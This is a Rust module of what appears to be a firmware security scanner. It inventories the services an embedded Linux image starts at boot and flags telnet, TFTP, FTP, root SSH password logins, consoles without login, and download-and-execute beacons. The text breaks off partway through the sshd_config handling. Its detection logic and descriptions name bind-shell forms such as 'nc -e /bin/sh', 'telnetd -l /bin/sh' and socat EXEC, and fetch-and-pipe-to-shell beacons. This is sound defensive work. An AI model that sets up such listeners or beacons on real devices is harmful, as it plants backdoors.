//! Services: what an image starts at boot and who may use it. Reads inittab (sysvinit and
//! busybox forms), init scripts (rcS, init.d, rc.d, rc.local, OpenWrt procd), systemd units
//! that are enabled, inetd and xinetd, OpenWrt uci configuration, sshd_config, and crontabs.
//! The result is a service inventory (binary, port, protocol, how it starts, what
//! authenticates it) and findings: telnet, shells without authentication, tftp, ftp, root SSH
//! login with a password, console shells, and download-and-execute beacons.

use std::collections::{BTreeMap, BTreeSet};

use netvet_model::{Category, EntryKind, Location, Port, Protocol, Service, Severity};
use netvet_unpack::Tree;

use super::{Check, Extras, read_text, system_roots};
use crate::check::{CheckInfo, Hit, Sink};

const TAGS: &[&str] = &["services"];

pub const TELNET: CheckInfo = CheckInfo {
    id: "nv-service-telnet",
    title: "Telnet service started",
    tags: TAGS,
    category: Category::Service,
    severity: Severity::High,
    cwe: &[319],
    references: &["3gpp:33.117:4.3.2.1", "3gpp:33.117:4.2.3.2.4"],
    remediation: "Remove telnetd; offer management over SSH with keys only.",
    description: "Telnet sends credentials in clear text and is the first port botnets try with default passwords.",
};

pub const UNAUTH_SHELL: CheckInfo = CheckInfo {
    id: "nv-service-unauthenticated-shell",
    title: "Network shell without authentication",
    tags: &["services", "backdoor"],
    category: Category::Backdoor,
    severity: Severity::Critical,
    cwe: &[306],
    references: &[
        "3gpp:33.117:4.2.3.4.1.1",
        "3gpp:33.117:4.2.4.1.2.1",
        "3gpp:33.117:4.3.2.1",
    ],
    remediation: "Remove the listener; no function may be reachable without authentication.",
    description: "A listener hands a shell to whoever connects (`telnetd -l /bin/sh`, `nc -e /bin/sh`, socat EXEC): a back door in all but name.",
};

pub const CONSOLE_SHELL: CheckInfo = CheckInfo {
    id: "nv-service-console-shell",
    title: "Root shell on a console without login",
    tags: TAGS,
    category: Category::Service,
    severity: Severity::Medium,
    cwe: &[306],
    references: &["3gpp:33.117:4.2.3.4.1.1", "3gpp:33.117:4.2.3.3.2"],
    remediation: "Run a login program (getty/login) on consoles.",
    description: "Anyone with access to the serial console gets a root shell without a password.",
};

pub const TFTP: CheckInfo = CheckInfo {
    id: "nv-service-tftp",
    title: "TFTP server started",
    tags: TAGS,
    category: Category::Service,
    severity: Severity::High,
    cwe: &[306],
    references: &["3gpp:33.117:4.3.2.1"],
    remediation: "Remove the TFTP server; transfer files over authenticated, encrypted channels.",
    description: "TFTP has no authentication: anyone reaching it can read and often write files.",
};

pub const FTP: CheckInfo = CheckInfo {
    id: "nv-service-ftp",
    title: "FTP server started",
    tags: TAGS,
    category: Category::Service,
    severity: Severity::Medium,
    cwe: &[319],
    references: &["3gpp:33.117:4.3.2.1", "3gpp:33.117:4.2.3.2.4"],
    remediation: "Replace FTP with SFTP or HTTPS.",
    description: "FTP sends credentials and data in clear text.",
};

pub const SSH_ROOT_PASSWORD: CheckInfo = CheckInfo {
    id: "nv-service-ssh-root-password",
    title: "Root may log in over SSH with a password",
    tags: TAGS,
    category: Category::Service,
    severity: Severity::High,
    cwe: &[250, 307],
    references: &["3gpp:33.117:4.3.2.6"],
    remediation: "Disallow remote root login (`PermitRootLogin no`, dropbear `-w`/`-g`, uci `RootPasswordAuth off`).",
    description: "Direct remote login as root with a password invites guessing and removes accountability.",
};

pub const BEACON: CheckInfo = CheckInfo {
    id: "nv-net-beacon",
    title: "Code downloaded and executed at boot or on a schedule",
    tags: &["services", "network", "backdoor"],
    category: Category::NetworkIndicator,
    severity: Severity::High,
    cwe: &[494],
    references: &["3gpp:33.117:4.2.3.3.5", "3gpp:33.117:4.3.2.4"],
    remediation: "Remove the job; software must come only through the signed update mechanism.",
    description: "A cron job or init script fetches content from a fixed host and runs it, giving whoever controls that host code execution on every device.",
};

const INFOS: &[&CheckInfo] = &[
    &TELNET,
    &UNAUTH_SHELL,
    &CONSOLE_SHELL,
    &TFTP,
    &FTP,
    &SSH_ROOT_PASSWORD,
    &BEACON,
];

/// The services check.
pub struct Services;

/// How a known daemon listens and authenticates.
struct Daemon {
    names: &'static [&'static str],
    service: &'static str,
    port: Option<(u16, Protocol)>,
    auth: &'static str,
}

const DAEMONS: &[Daemon] = &[
    Daemon {
        names: &["telnetd", "utelnetd", "in.telnetd"],
        service: "telnet",
        port: Some((23, Protocol::Tcp)),
        auth: "password",
    },
    Daemon {
        names: &["dropbear"],
        service: "ssh",
        port: Some((22, Protocol::Tcp)),
        auth: "password",
    },
    Daemon {
        names: &["sshd"],
        service: "ssh",
        port: Some((22, Protocol::Tcp)),
        auth: "password",
    },
    Daemon {
        names: &[
            "httpd",
            "lighttpd",
            "uhttpd",
            "boa",
            "goahead",
            "webs",
            "mini_httpd",
            "thttpd",
            "nginx",
            "apache2",
            "mongoose",
        ],
        service: "http",
        port: Some((80, Protocol::Tcp)),
        auth: "unknown",
    },
    Daemon {
        names: &["vsftpd", "proftpd", "ftpd", "pure-ftpd", "bftpd"],
        service: "ftp",
        port: Some((21, Protocol::Tcp)),
        auth: "password",
    },
    Daemon {
        names: &["tftpd", "in.tftpd", "atftpd"],
        service: "tftp",
        port: Some((69, Protocol::Udp)),
        auth: "none",
    },
    Daemon {
        names: &["snmpd", "mini_snmpd"],
        service: "snmp",
        port: Some((161, Protocol::Udp)),
        auth: "community",
    },
    Daemon {
        names: &["dnsmasq"],
        service: "dns",
        port: Some((53, Protocol::Udp)),
        auth: "none",
    },
    Daemon {
        names: &["miniupnpd"],
        service: "upnp",
        port: Some((1900, Protocol::Udp)),
        auth: "none",
    },
    Daemon {
        names: &["cwmpd", "tr069", "tr69", "easycwmp"],
        service: "tr-069",
        port: Some((7547, Protocol::Tcp)),
        auth: "unknown",
    },
    Daemon {
        names: &["smbd"],
        service: "smb",
        port: Some((445, Protocol::Tcp)),
        auth: "password",
    },
    Daemon {
        names: &["mosquitto"],
        service: "mqtt",
        port: Some((1883, Protocol::Tcp)),
        auth: "unknown",
    },
    Daemon {
        names: &["igdmptd"],
        service: "igdmptd",
        port: Some((53413, Protocol::Udp)),
        auth: "password",
    },
    Daemon {
        names: &["scfgmgr"],
        service: "scfgmgr",
        port: Some((32764, Protocol::Tcp)),
        auth: "none",
    },
    Daemon {
        names: &["inetd", "xinetd"],
        service: "inetd",
        port: None,
        auth: "unknown",
    },
    Daemon {
        names: &["zebra", "bgpd", "ospfd", "ripd", "frr", "bird"],
        service: "routing",
        port: None,
        auth: "unknown",
    },
    Daemon {
        names: &["openvpn"],
        service: "vpn",
        port: Some((1194, Protocol::Udp)),
        auth: "key",
    },
    Daemon {
        names: &["ntpd", "chronyd"],
        service: "ntp",
        port: Some((123, Protocol::Udp)),
        auth: "none",
    },
];

/// Well-known inetd service names.
fn inetd_port(name: &str) -> Option<(u16, Protocol)> {
    Some(match name {
        "telnet" => (23, Protocol::Tcp),
        "ftp" => (21, Protocol::Tcp),
        "tftp" => (69, Protocol::Udp),
        "shell" => (514, Protocol::Tcp),
        "login" => (513, Protocol::Tcp),
        "exec" => (512, Protocol::Tcp),
        "http" | "www" => (80, Protocol::Tcp),
        "ssh" => (22, Protocol::Tcp),
        "snmp" => (161, Protocol::Udp),
        n => (n.parse().ok()?, Protocol::Tcp),
    })
}

/// Splits a shell command line into words (quotes respected), stopping at a comment.
pub fn words(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote = None;
    let mut any = false;
    for c in line.chars() {
        match (quote, c) {
            (None, '#') if cur.is_empty() => break,
            (None, '\'' | '"') => {
                quote = Some(c);
                any = true;
            }
            (Some(q), c) if c == q => quote = None,
            (None, c) if c.is_whitespace() => {
                if any || !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                    any = false;
                }
            }
            (_, c) => cur.push(c),
        }
    }
    if any || !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// The simple commands of a shell line: split at `;`, `&&`, `||`, `|` and a trailing `&`.
pub(crate) fn commands(line: &str) -> Vec<Vec<String>> {
    let mut out = Vec::new();
    let mut cur = Vec::new();
    for w in words(line) {
        match w.as_str() {
            ";" | "&&" | "||" | "|" | "&" => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            _ => {
                // `cmd;` and `cmd&` end a command too.
                let ends = w.ends_with(';') || (w.ends_with('&') && !w.ends_with("&&"));
                let w = w.trim_end_matches(['&', ';']).to_string();
                if !w.is_empty() {
                    cur.push(w);
                }
                if ends && !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

fn base(w: &str) -> &str {
    w.rsplit('/').next().unwrap_or(w)
}

fn is_shell(w: &str) -> bool {
    matches!(
        base(w.trim_start_matches('-')),
        "sh" | "ash" | "bash" | "dash" | "hush" | "ksh" | "zsh" | "msh"
    )
}

/// Strips launchers (`exec`, `nohup`, `env X=Y`, `start-stop-daemon ... -x prog --`,
/// `busybox applet`, `/usr/bin/env`) to reach the program and its arguments.
pub(crate) fn program(cmd: &[String]) -> Option<(String, Vec<String>)> {
    let mut i = 0;
    while i < cmd.len() {
        let w = cmd[i].as_str();
        let b = base(w);
        if b == "exec"
            || b == "nohup"
            || b == "env"
            || b == "nice"
            || b == "setsid"
            || (w.contains('=') && !w.starts_with('-'))
        {
            i += 1;
            continue;
        }
        if b == "start-stop-daemon" {
            // The program follows -x/--exec or -a/--startas; its arguments follow `--`.
            let prog = cmd
                .iter()
                .position(|x| x == "-x" || x == "--exec" || x == "-a" || x == "--startas")
                .and_then(|p| cmd.get(p + 1))?;
            let args = cmd
                .iter()
                .position(|x| x == "--")
                .map(|p| cmd[p + 1..].to_vec())
                .unwrap_or_default();
            return Some((prog.clone(), args));
        }
        if b == "busybox" && i + 1 < cmd.len() {
            return Some((cmd[i + 1].clone(), cmd[i + 2..].to_vec()));
        }
        return Some((w.to_string(), cmd[i + 1..].to_vec()));
    }
    None
}

fn flag_value<'a>(args: &'a [String], flags: &[&str]) -> Option<&'a str> {
    for (i, a) in args.iter().enumerate() {
        for f in flags {
            if a == f {
                return args.get(i + 1).map(String::as_str);
            }
            if let Some(v) = a
                .strip_prefix(f)
                .filter(|_| f.len() == 2 || a.starts_with(&format!("{f}=")))
            {
                let v = v.trim_start_matches('=');
                if !v.is_empty() {
                    return Some(v);
                }
            }
        }
    }
    None
}

/// A port from `8080`, `0.0.0.0:8080`, `[::]:8080`.
fn port_of(s: &str) -> Option<u16> {
    s.rsplit(':')
        .next()?
        .trim_matches(['[', ']'])
        .parse()
        .ok()
        .filter(|&p| p > 0)
}

/// Everything a started command line tells: the service, and problems with it.
struct Started {
    service: Service,
    /// A shell is handed out without authentication.
    unauth_shell: bool,
    root_password_login: bool,
}

fn classify(prog: &str, args: &[String], started_by: &str, location: Location) -> Option<Started> {
    let name = base(prog);
    let daemon = DAEMONS.iter().find(|d| d.names.contains(&name));
    let mut ports = BTreeSet::new();
    let mut auth = daemon.map_or("unknown", |d| d.auth).to_string();
    let mut unauth_shell = false;
    let mut root_password_login = false;
    match name {
        "telnetd" | "utelnetd" | "in.telnetd" => {
            let port = flag_value(args, &["-p"]).and_then(port_of).unwrap_or(23);
            ports.insert(Port {
                number: port,
                protocol: Protocol::Tcp,
            });
            if flag_value(args, &["-l"]).is_some_and(is_shell) {
                auth = "none".into();
                unauth_shell = true;
            }
        }
        "dropbear" => {
            let port = flag_value(args, &["-p"]).and_then(port_of).unwrap_or(22);
            ports.insert(Port {
                number: port,
                protocol: Protocol::Tcp,
            });
            let no_password = args.iter().any(|a| a == "-s");
            let no_root = args.iter().any(|a| a == "-w" || a == "-g");
            auth = if no_password {
                "key".into()
            } else {
                "password".into()
            };
            root_password_login = !no_password && !no_root;
        }
        "nc" | "netcat" | "ncat" => {
            let listens = args
                .iter()
                .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('l'));
            let exec = flag_value(args, &["-e", "-c"]);
            if !listens && exec.is_none() {
                return None;
            }
            if let Some(p) = flag_value(args, &["-p"])
                .and_then(port_of)
                .or_else(|| args.iter().rev().find_map(|a| a.parse::<u16>().ok()))
            {
                ports.insert(Port {
                    number: p,
                    protocol: if args.iter().any(|a| a == "-u") {
                        Protocol::Udp
                    } else {
                        Protocol::Tcp
                    },
                });
            }
            if exec.is_some_and(|e| is_shell(e.split_whitespace().next().unwrap_or(""))) {
                auth = "none".into();
                unauth_shell = true;
            }
        }
        "socat" => {
            let listen = args.iter().find_map(|a| {
                let u = a.to_ascii_uppercase();
                (u.starts_with("TCP-LISTEN:")
                    || u.starts_with("TCP4-LISTEN:")
                    || u.starts_with("UDP-LISTEN:"))
                .then(|| {
                    a.split(':')
                        .nth(1)
                        .and_then(|p| p.split(',').next())
                        .and_then(|p| p.parse::<u16>().ok())
                })
                .flatten()
            });
            let shell = args.iter().any(|a| {
                let u = a.to_ascii_uppercase();
                (u.starts_with("EXEC:") || u.starts_with("SYSTEM:"))
                    && a.split(':')
                        .nth(1)
                        .is_some_and(|c| is_shell(c.split([' ', ',']).next().unwrap_or("")))
            });
            let port = listen?;
            ports.insert(Port {
                number: port,
                protocol: Protocol::Tcp,
            });
            if shell {
                auth = "none".into();
                unauth_shell = true;
            }
        }
        "tcpsvd" | "udpsvd" => {
            // tcpsvd [opts] IP PORT PROG [ARGS]: the served program decides.
            let rest: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
            let port = rest.get(1).and_then(|p| p.parse::<u16>().ok())?;
            let proto = if name == "udpsvd" {
                Protocol::Udp
            } else {
                Protocol::Tcp
            };
            let served = rest.get(2).map(|s| s.as_str()).unwrap_or("");
            if is_shell(served) {
                auth = "none".into();
                unauth_shell = true;
            }
            let mut s = classify(served, &[], started_by, location.clone())
                .map(|s| s.service)
                .unwrap_or(Service {
                    name: base(served).to_string(),
                    binary: None,
                    ports: Vec::new(),
                    started_by: started_by.to_string(),
                    authentication: auth.clone(),
                    location: location.clone(),
                });
            s.ports = vec![Port {
                number: port,
                protocol: proto,
            }];
            if unauth_shell {
                s.authentication = "none".into();
            }
            return Some(Started {
                service: s,
                unauth_shell,
                root_password_login,
            });
        }
        _ => {
            if let Some(d) = daemon {
                let port = flag_value(args, &["-p", "--port", "--listen", "-l"]).and_then(port_of);
                if let Some((p, proto)) = port
                    .map(|p| (p, d.port.map_or(Protocol::Tcp, |x| x.1)))
                    .or(d.port)
                {
                    ports.insert(Port {
                        number: p,
                        protocol: proto,
                    });
                }
            } else {
                // An unknown program that says where it listens: `--listen`, `--port`,
                // `--bind`, `--sbi-listen ADDR:PORT`, `--http-port=8080`...
                for (i, a) in args.iter().enumerate() {
                    let Some(flag) = a.strip_prefix('-') else {
                        continue;
                    };
                    let (flag, inline) = match flag.split_once('=') {
                        Some((f, v)) => (f, Some(v)),
                        None => (flag, None),
                    };
                    let flag = flag.trim_start_matches('-').to_ascii_lowercase();
                    if !(flag.contains("listen")
                        || flag.contains("port")
                        || flag == "bind"
                        || flag.ends_with("-bind"))
                    {
                        continue;
                    }
                    if let Some(p) = inline
                        .or_else(|| args.get(i + 1).map(String::as_str))
                        .and_then(port_of)
                    {
                        ports.insert(Port {
                            number: p,
                            protocol: Protocol::Tcp,
                        });
                    }
                }
                if ports.is_empty() {
                    return None;
                }
            }
        }
    }
    Some(Started {
        service: Service {
            name: daemon.map_or(name, |d| d.service).to_string(),
            binary: Some(prog.to_string()),
            ports: ports.into_iter().collect(),
            started_by: started_by.to_string(),
            authentication: auth,
            location,
        },
        unauth_shell,
        root_password_login,
    })
}

/// Lines of a file that run commands, with their 1-based numbers.
fn script_lines(text: &str) -> impl Iterator<Item = (usize, &str)> {
    text.lines()
        .enumerate()
        .map(|(i, l)| (i + 1, l.trim()))
        .filter(|(_, l)| !l.is_empty() && !l.starts_with('#'))
}

/// Download-and-execute: `wget|curl|tftp ... | sh`, or a fetch followed by running the file.
fn beacon_url(cmds: &[Vec<String>], line: &str) -> Option<String> {
    let fetch = cmds.iter().any(|c| {
        c.first()
            .is_some_and(|w| matches!(base(w), "wget" | "curl" | "tftp" | "ftpget" | "fetch"))
    });
    let pipe_shell = line.contains('|')
        && cmds
            .last()
            .and_then(|c| c.first())
            .is_some_and(|w| is_shell(w));
    let runs_after = cmds.len() > 1
        && cmds.iter().skip(1).any(|c| {
            c.first()
                .is_some_and(|w| is_shell(w) || w.starts_with("/tmp/") || w == "chmod")
        });
    if !(fetch && (pipe_shell || runs_after)) {
        return None;
    }
    let url = regex_url().find(line).map(|m| m.as_str().to_string());
    Some(url.unwrap_or_else(|| line.chars().take(120).collect()))
}

fn regex_url() -> &'static regex::Regex {
    static RE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    RE.get_or_init(|| {
        regex::Regex::new(r#"(?i)\b(?:https?|ftp|tftp)://[^\s"'|;)]+"#).expect("valid regex")
    })
}

struct Ctx<'a> {
    sink: &'a Sink,
    services: Vec<Service>,
    /// Report findings (false for scripts that are present but not started).
    findings: bool,
}

impl Ctx<'_> {
    fn command_line(&mut self, line: &str, started_by: &str, path: &str, lineno: usize) {
        let cmds = commands(line);
        if let Some(url) = beacon_url(&cmds, line).filter(|_| self.findings) {
            self.sink.hit(
                Hit::new(
                    &BEACON,
                    path,
                    format!("{lineno}:{url}"),
                    line.chars().take(200).collect::<String>(),
                )
                .line(lineno)
                .detail("url", url)
                .detail("started_by", started_by),
            );
        }
        for cmd in &cmds {
            let Some((prog, args)) = program(cmd) else {
                continue;
            };
            let location = Location {
                path: path.to_string(),
                offset: None,
                line: Some(lineno as u32),
            };
            let Some(s) = classify(&prog, &args, started_by, location) else {
                continue;
            };
            self.report(s, line, path, lineno);
        }
    }

    fn report(&mut self, s: Started, line: &str, path: &str, lineno: usize) {
        if !self.findings {
            self.services.push(s.service);
            return;
        }
        let evidence: String = line.chars().take(200).collect();
        let port = s.service.ports.first().map(|p| p.number);
        let key = format!("{}:{}", s.service.name, port.unwrap_or(0));
        if s.unauth_shell {
            self.sink.hit(
                Hit::new(&UNAUTH_SHELL, path, &key, evidence.clone())
                    .line(lineno)
                    .title(format!(
                        "{} gives a shell without authentication{}",
                        s.service.name,
                        port.map(|p| format!(" on port {p}")).unwrap_or_default()
                    ))
                    .detail("port", port.unwrap_or(0)),
            );
        }
        match s.service.name.as_str() {
            "telnet" => self.sink.hit(
                Hit::new(&TELNET, path, &key, evidence.clone())
                    .line(lineno)
                    .detail("port", port.unwrap_or(23)),
            ),
            "tftp" => self
                .sink
                .hit(Hit::new(&TFTP, path, &key, evidence.clone()).line(lineno)),
            "ftp" => self
                .sink
                .hit(Hit::new(&FTP, path, &key, evidence.clone()).line(lineno)),
            _ => {}
        }
        if s.root_password_login {
            self.sink
                .hit(Hit::new(&SSH_ROOT_PASSWORD, path, &key, evidence).line(lineno));
        }
        self.services.push(s.service);
    }
}

impl Check for Services {
    fn area(&self) -> &'static str {
        "services"
    }

    fn infos(&self) -> Vec<&CheckInfo> {
        INFOS.to_vec()
    }

    fn finish(&self, tree: &Tree, sink: &Sink, extras: &mut Extras) {
        for root in system_roots(tree) {
            let mut ctx = Ctx {
                sink,
                services: Vec::new(),
                findings: true,
            };
            scan_root(tree, &root, &mut ctx);
            ctx.services.sort();
            ctx.services.dedup();
            extras.services.extend(ctx.services);
        }
    }
}

fn files_under<'t>(tree: &'t Tree, root: &str, dir: &str) -> Vec<&'t netvet_unpack::Entry> {
    let prefix = format!("{root}!/{dir}/");
    tree.entries()
        .iter()
        .filter(|e| e.path.starts_with(&prefix) && !e.path[prefix.len()..].contains("!/"))
        .collect()
}

fn scan_root(tree: &Tree, root: &str, ctx: &mut Ctx<'_>) {
    let sink = ctx.sink;
    // inittab: `id:runlevels:action:process` (busybox leaves id and runlevels empty or uses
    // id as the tty).
    let mut scripts: BTreeSet<String> = BTreeSet::new();
    if let Some((path, text)) = read_text(tree, root, "/etc/inittab", sink) {
        for (n, line) in script_lines(&text) {
            let f: Vec<&str> = line.splitn(4, ':').collect();
            if f.len() != 4 {
                sink.error(format!("{path}:{n}: malformed inittab line"));
                continue;
            }
            let (tty, action, process) = (f[0], f[2], f[3].trim());
            let cmd_words = words(process);
            let first = cmd_words.first().map(String::as_str).unwrap_or("");
            if matches!(action, "respawn" | "askfirst" | "once" | "wait") && is_shell(first) {
                ctx.sink.hit(
                    Hit::new(&CONSOLE_SHELL, &path, format!("{n}"), line.to_string())
                        .line(n)
                        .title(format!(
                            "Shell without login on {}",
                            if tty.is_empty() { "the console" } else { tty }
                        )),
                );
                continue;
            }
            if base(first).contains("getty")
                && flag_value(&cmd_words, &["-l"]).is_some_and(is_shell)
            {
                ctx.sink.hit(
                    Hit::new(&CONSOLE_SHELL, &path, format!("{n}"), line.to_string())
                        .line(n)
                        .title("getty runs a shell instead of login"),
                );
                continue;
            }
            if matches!(action, "sysinit" | "wait" | "once" | "boot" | "bootwait")
                && first.starts_with('/')
            {
                scripts.insert(first.to_string());
            }
            ctx.command_line(process, "inittab", &path, n);
        }
    }
    // Init scripts.
    for s in [
        "/etc/init.d/rcS",
        "/etc/rc.local",
        "/etc/rc.d/rc.local",
        "/etc/rc",
        "/etc/rcS",
        "/etc/rc.d/rcS",
        "/etc/rc.sysinit",
    ] {
        scripts.insert(s.to_string());
    }
    // Scripts that run at boot: rcS and friends, and what they or inittab name.
    let mut boot: BTreeMap<String, String> = BTreeMap::new();
    for s in &scripts {
        if let Some((path, text)) = read_text(tree, root, s, sink) {
            boot.insert(path, text);
        }
    }
    // Service scripts: enabled when linked as S* from an rc directory (SysV, OpenWrt), named
    // S* themselves (busybox `for i in /etc/init.d/S??*`), or started by a boot script.
    // The others are listed in the inventory but are not findings.
    let mut enabled: BTreeSet<String> = BTreeSet::new();
    let rc_dirs: Vec<String> = ["etc/rc.d", "etc/rcS.d", "etc/rc.d/rcS.d"]
        .iter()
        .map(|d| d.to_string())
        .chain((0..=6).map(|n| format!("etc/rc{n}.d")))
        .chain((0..=6).map(|n| format!("etc/rc.d/rc{n}.d")))
        .collect();
    for dir in &rc_dirs {
        for e in files_under(tree, root, dir) {
            if !e.name().starts_with('S') {
                continue;
            }
            match e.kind {
                EntryKind::Symlink => {
                    if let Some(t) = tree.resolve(&e.path) {
                        enabled.insert(t.path.clone());
                    }
                }
                EntryKind::File => {
                    enabled.insert(e.path.clone());
                }
                _ => {}
            }
        }
    }
    let mut services: BTreeMap<String, String> = BTreeMap::new();
    for dir in ["etc/init.d", "etc/rc.d", "etc/rcS.d", "etc/rc.d/init.d"] {
        for e in files_under(tree, root, dir) {
            if e.kind != EntryKind::File || e.size >= 1 << 20 || boot.contains_key(&e.path) {
                continue;
            }
            if let Ok(b) = tree.read(e)
                && crate::content::ContentKind::of(&b) == crate::content::ContentKind::Text
            {
                let name = e.name();
                if name.len() > 1 && name.starts_with('S') && name.as_bytes()[1].is_ascii_digit() {
                    enabled.insert(e.path.clone());
                }
                services.insert(e.path.clone(), String::from_utf8_lossy(&b).into_owned());
            }
        }
    }
    for path in services.keys() {
        let fs = crate::content::fs_path(path);
        let name = fs.rsplit('/').next().unwrap_or("");
        if boot
            .values()
            .any(|t| t.contains(fs) || t.contains(&format!("init.d/{name} ")))
        {
            enabled.insert(path.clone());
        }
    }
    let all = boot
        .iter()
        .map(|(p, t)| (p, t, true))
        .chain(services.iter().map(|(p, t)| (p, t, enabled.contains(p))));
    for (path, text, runs) in all {
        ctx.findings = runs;
        let procd = text.contains("USE_PROCD=1");
        let how = if runs {
            "init-script"
        } else {
            "init-script (not enabled)"
        };
        for (n, line) in script_lines(text) {
            if procd {
                if let Some(rest) = line.strip_prefix("procd_set_param command") {
                    ctx.command_line(
                        rest.trim(),
                        if runs { "procd" } else { "procd (not enabled)" },
                        path,
                        n,
                    );
                }
                continue;
            }
            ctx.command_line(line, how, path, n);
        }
    }
    ctx.findings = true;
    // systemd: units enabled by a link in a *.wants directory.
    let mut enabled: BTreeSet<String> = BTreeSet::new();
    for e in files_under(tree, root, "etc/systemd/system") {
        if e.kind == EntryKind::Symlink && e.path.contains(".wants/") {
            enabled.insert(e.name().to_string());
        }
    }
    for dir in [
        "etc/systemd/system",
        "lib/systemd/system",
        "usr/lib/systemd/system",
    ] {
        for e in files_under(tree, root, dir) {
            let name = e.name();
            if !(name.ends_with(".service") || name.ends_with(".socket"))
                || !enabled.contains(name)
                || e.kind != EntryKind::File
            {
                continue;
            }
            let Ok(b) = tree.read(e) else { continue };
            let text = String::from_utf8_lossy(&b);
            for (n, line) in script_lines(&text) {
                if let Some(cmd) = line.strip_prefix("ExecStart=") {
                    let cmd = cmd.trim_start_matches(['-', '@', '+', '!']);
                    let before = ctx.services.len();
                    ctx.command_line(cmd, "systemd", &e.path, n);
                    // Every enabled unit is a service, even when it says nothing about ports.
                    if ctx.services.len() == before
                        && let Some((prog, _)) = commands(cmd).first().and_then(|c| program(c))
                    {
                        ctx.services.push(Service {
                            name: name.trim_end_matches(".service").to_string(),
                            binary: Some(prog),
                            ports: Vec::new(),
                            started_by: "systemd".into(),
                            authentication: "unknown".into(),
                            location: Location {
                                path: e.path.clone(),
                                offset: None,
                                line: Some(n as u32),
                            },
                        });
                    }
                } else if let Some(l) = line
                    .strip_prefix("ListenStream=")
                    .or_else(|| line.strip_prefix("ListenDatagram="))
                    && let Some(p) = port_of(l.trim())
                {
                    {
                        let service = Service {
                            name: name.trim_end_matches(".socket").to_string(),
                            binary: None,
                            ports: vec![Port {
                                number: p,
                                protocol: if line.starts_with("ListenDatagram") {
                                    Protocol::Udp
                                } else {
                                    Protocol::Tcp
                                },
                            }],
                            started_by: "systemd-socket".into(),
                            authentication: "unknown".into(),
                            location: Location {
                                path: e.path.clone(),
                                offset: None,
                                line: Some(n as u32),
                            },
                        };
                        let s = Started {
                            service,
                            unauth_shell: false,
                            root_password_login: false,
                        };
                        ctx.report(s, line, &e.path, n);
                    }
                }
            }
        }
    }
    // inetd.conf: service socktype proto wait user server args.
    if let Some((path, text)) = read_text(tree, root, "/etc/inetd.conf", sink) {
        for (n, line) in script_lines(&text) {
            let f = words(line);
            if f.len() < 6 {
                sink.error(format!("{path}:{n}: malformed inetd line"));
                continue;
            }
            let (svc, proto, server) = (&f[0], &f[2], &f[5]);
            let args = if f.len() > 7 {
                f[7..].to_vec()
            } else {
                Vec::new()
            };
            let location = Location {
                path: path.clone(),
                offset: None,
                line: Some(n as u32),
            };
            let mut s = classify(server, &args, "inetd", location.clone()).unwrap_or(Started {
                service: Service {
                    name: svc.clone(),
                    binary: Some(server.clone()),
                    ports: Vec::new(),
                    started_by: "inetd".into(),
                    authentication: "unknown".into(),
                    location,
                },
                unauth_shell: false,
                root_password_login: false,
            });
            if let Some((p, _)) = inetd_port(svc) {
                s.service.ports = vec![Port {
                    number: p,
                    protocol: if proto.starts_with("udp") {
                        Protocol::Udp
                    } else {
                        Protocol::Tcp
                    },
                }];
            }
            if is_shell(server)
                || args.first().is_some_and(|a| is_shell(a)) && base(server) != "telnetd"
            {
                s.unauth_shell = true;
                s.service.authentication = "none".into();
            }
            if svc == "telnet" {
                s.service.name = "telnet".into();
            }
            ctx.report(s, line, &path, n);
        }
    }
    // xinetd.d: service blocks with server, port and disable.
    for e in files_under(tree, root, "etc/xinetd.d") {
        let Ok(b) = tree.read(e) else { continue };
        let text = String::from_utf8_lossy(&b);
        let mut kv: BTreeMap<String, String> = BTreeMap::new();
        let mut name = String::new();
        for (n, line) in script_lines(&text) {
            if let Some(s) = line.strip_prefix("service") {
                name = s.trim().trim_end_matches('{').trim().to_string();
                kv.clear();
                kv.insert("line".into(), n.to_string());
            } else if line.starts_with('}') {
                if kv.get("disable").is_some_and(|v| v == "yes") {
                    continue;
                }
                let lineno: usize = kv.get("line").and_then(|l| l.parse().ok()).unwrap_or(n);
                let server = kv.get("server").cloned().unwrap_or_default();
                let args = words(kv.get("server_args").map(String::as_str).unwrap_or(""));
                let location = Location {
                    path: e.path.clone(),
                    offset: None,
                    line: Some(lineno as u32),
                };
                let mut s =
                    classify(&server, &args, "xinetd", location.clone()).unwrap_or(Started {
                        service: Service {
                            name: name.clone(),
                            binary: Some(server.clone()),
                            ports: Vec::new(),
                            started_by: "xinetd".into(),
                            authentication: "unknown".into(),
                            location,
                        },
                        unauth_shell: false,
                        root_password_login: false,
                    });
                if let Some(p) = kv
                    .get("port")
                    .and_then(|p| p.parse().ok())
                    .or_else(|| inetd_port(&name).map(|x| x.0))
                {
                    s.service.ports = vec![Port {
                        number: p,
                        protocol: if kv.get("socket_type").is_some_and(|t| t == "dgram") {
                            Protocol::Udp
                        } else {
                            Protocol::Tcp
                        },
                    }];
                }
                if name == "telnet" {
                    s.service.name = "telnet".into();
                }
                ctx.report(s, &format!("service {name}"), &e.path, lineno);
            } else if let Some((k, v)) = line.split_once('=') {
                kv.insert(k.trim().to_string(), v.trim().to_string());
            }
        }
    }
    // OpenWrt uci: dropbear password logins for root.
    if let Some((path, text)) = read_text(tree, root, "/etc/config/dropbear", sink) {
        let mut root_pw = true;
        let mut pw = true;
        let mut at = 1;
        for (n, line) in script_lines(&text) {
            let w = words(line);
            if w.first().is_some_and(|x| x == "config") {
                at = n;
            }
            if w.len() >= 3 && w[0] == "option" {
                let on = !matches!(w[2].as_str(), "off" | "0" | "no" | "false");
                match w[1].as_str() {
                    "RootPasswordAuth" => root_pw = on,
                    "PasswordAuth" => pw = on,
                    _ => {}
                }
            }
        }
        if root_pw && pw {
            sink.hit(
                Hit::new(
                    &SSH_ROOT_PASSWORD,
                    &path,
                    "uci",
                    "RootPasswordAuth on (default)",
                )
                .line(at),
            );
        }
    }
    // OpenSSH configuration.
    if let Some((path, text)) = read_text(tree, root, "/etc/ssh/sshd_config", sink) {
        let mut root_login: Option<(String, usize)> = None;
        let mut password = true;
        // Keyboard-interactive logins ask for the password too when PAM backs them (both
